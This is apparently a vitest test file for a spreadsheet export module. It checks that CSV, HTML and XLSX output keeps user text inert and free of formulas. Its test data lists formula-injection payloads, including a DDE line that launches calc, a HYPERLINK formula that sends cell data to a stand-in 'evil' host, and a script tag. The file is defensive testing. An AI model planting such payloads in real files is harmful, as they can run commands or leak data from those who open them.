import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import { csvOf, htmlOf, xlsxOf } from '../../worker/totals/export.ts'
import type { ExportTable } from '../../worker/totals/table.ts'

/** What a person typed stays a text in every program that opens a file of ours. */

const active = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '|calc',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n＝1+1',
  '\u0000=1+1',
  '\u0001=1+1',
  '\u202e=1+1',
  '\t甲厂',
  '=HYPERLINK("http://evil/?"&A1,"点我")',
  "=cmd|'/C calc'!A0",
  '="a",=1+1',
  '<script>alert(1)</script>=1+1\r\n=2+2',
]
const quiet = ['甲厂', '1=1', '甲+乙', '3-5人', 'a@example.com', '（无）', '']

const table = (texts: string[]): ExportTable => ({
  name: '汇总',
  header: ['=单位', '数'],
  formats: {},
  rows: texts.map((text) => [text, -1]),
})

describe('CSV', () => {
  const rows = parseCsv(csvOf(table([...active, ...quiet])).replace('\ufeff', ''))

  test('keeps every text in its cell, and none of them a formula', () => {
    expect(rows).toHaveLength(1 + active.length + quiet.length)
    expect(rows[0]).toEqual(["'=单位", '数'])
    for (const [at, text] of active.slice(0, -1).entries()) {
      expect(rows[at + 1], JSON.stringify(text)).toEqual([`'${text}`, '-1'])
    }
    for (const [at, text] of quiet.entries()) {
      expect(rows[at + active.length + 1]).toEqual([text, '-1'])
    }
  })
})

test('HTML has none, and no markup', () => {
  const html = htmlOf('=1+1', [table([...active, ...quiet])], 'zh')
  const cells = [...html.matchAll(/<t[dh]>([^<]*)<\/t[dh]>/g)].map(([, text]) => text)
  expect(cells).toHaveLength(2 * (1 + active.length + quiet.length))
  const texts = cells.filter((_, at) => at % 2 === 0).slice(1, active.length)
  for (const text of texts) expect(text).toMatch(/^(&#39;|')/)
  expect(html).not.toContain('<script')
})

describe('a workbook', () => {
  test('has no column wider than a screen, whatever is in it', async () => {
    const wide = { ...table(['名'.repeat(400)]), formats: { 1: '0.00' } }
    const { sheets } = await readXlsx(await xlsxOf([wide], '2020-02-28T09:00:00Z'))
    const widths = sheets[0]?.columns?.map(({ width }) => width ?? 0) ?? []
    expect(widths).toHaveLength(2)
    expect(Math.max(...widths)).toBeLessThanOrEqual(62)
  })

  test('has them as texts, whatever is in them', async () => {
    const bytes = await xlsxOf([table([...active, ...quiet])], '2020-02-28T09:00:00Z')
    const { sheets } = await readXlsx(bytes)
    const [sheet] = sheets
    for (const cell of sheet?.cells?.values() ?? []) expect(cell.formula).toBeUndefined()
    const shown = sheet?.rows.slice(1).map(([text]) => text ?? '')
    expect(shown).toEqual([...active, ...quiet])
  })
})
